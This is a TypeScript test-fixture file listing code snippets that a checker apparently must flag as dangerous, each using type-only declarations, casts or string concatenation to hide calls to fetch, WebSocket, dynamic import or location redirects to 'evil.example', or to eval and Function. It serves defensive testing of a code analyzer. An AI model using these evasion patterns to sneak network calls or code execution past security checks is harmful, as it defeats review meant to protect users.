import type { Dangerous } from "./case.ts";

const raw = String.raw;

/** Declarations that compilers take out, so that the name is still the global one; and types that JavaScript runs. */
export const TYPED: readonly Dangerous[] = [
  ["external-request", raw`declare const fetch: any; fetch("https://evil.example")`],
  ["external-request", raw`declare function fetch(u: string): any; fetch("https://evil.example")`],
  ["external-request", raw`import type { fetch } from "./own"; fetch("https://evil.example")`],
  ["external-request", raw`import { type fetch } from "./own"; fetch("https://evil.example")`],
  ["external-request", raw`interface fetch {} fetch("https://evil.example")`],
  ["external-request", raw`type fetch = 1; fetch("https://evil.example")`],
  ["external-request", raw`namespace fetch { export type A = 1 } fetch("https://evil.example")`],
  ["external-request", raw`declare namespace fetch { const a: 1 } fetch("https://evil.example")`],
  [
    "external-request",
    raw`declare class WebSocket { constructor(u: string) } new WebSocket("wss://evil.example")`,
  ],
  ["external-request", raw`declare global { var fetch: any } fetch("https://evil.example"); export {};`],
  ["external-request", raw`function fetch(u: string): void; fetch("https://evil.example")`],
  ["external-request", raw`var fetch; fetch("https://evil.example")`],
  ["redirect", raw`declare let location: any; location.href = "https://evil.example"`],
  ["redirect", raw`var location; location.href = "https://evil.example"`],
  ["eval", raw`declare var Function: any; new Function("x")`],
  ["eval", raw`declare enum Function { A } Function("x")`],
  ["external-request", raw`x < typeof import("https://evil.example/x.js") > (y)`],
  ["external-request", raw`new X < typeof import("https://evil.example/x.js") > (y)`],
  ["eval", raw`x < eval("1") > (y)`],
  ["eval", raw`abstract class A { abstract f(): void; g() { return eval("1"); } }`],
  ["eval", raw`class A { declare eval: any; f = globalThis.eval("1"); }`],
  ["eval", raw`class A { constructor(private f = Function) { f("x"); } }`],
  ["eval", raw`let v = (window satisfies Window)!["ev" + ("al" as const)]("x")`],
];
